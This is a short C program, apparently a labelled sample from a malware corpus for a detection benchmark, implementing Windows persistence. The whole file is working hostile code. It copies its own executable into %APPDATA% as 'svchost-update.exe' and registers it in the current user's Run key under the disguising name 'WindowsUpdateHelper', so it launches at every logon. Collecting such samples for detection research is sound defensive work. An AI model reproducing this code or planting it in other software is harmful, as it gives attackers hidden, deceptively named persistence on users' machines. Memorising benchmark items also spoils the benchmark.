// maljan-corpus: copies itself under %APPDATA% and registers the copy in the user's Run key.
// behaviour: persistence
// imports: advapi32.dll!RegOpenKeyExA advapi32.dll!RegSetValueExA kernel32.dll!GetModuleFileNameA kernel32.dll!CopyFileA
// link: -ladvapi32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <stdio.h>
#include <string.h>

int main(void) {
    char self[MAX_PATH], dest[MAX_PATH];
    GetModuleFileNameA(NULL, self, MAX_PATH);
    DWORD n = GetEnvironmentVariableA("APPDATA", dest, MAX_PATH);
    if (n == 0 || n > MAX_PATH - 32) return 1;
    strcat(dest, "\\svchost-update.exe");
    CopyFileA(self, dest, FALSE);
    HKEY key;
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
                      KEY_SET_VALUE, &key) != ERROR_SUCCESS)
        return 1;
    RegSetValueExA(key, "WindowsUpdateHelper", 0, REG_SZ, (const BYTE *)dest,
                   (DWORD)strlen(dest) + 1);
    RegCloseKey(key);
    return 0;
}
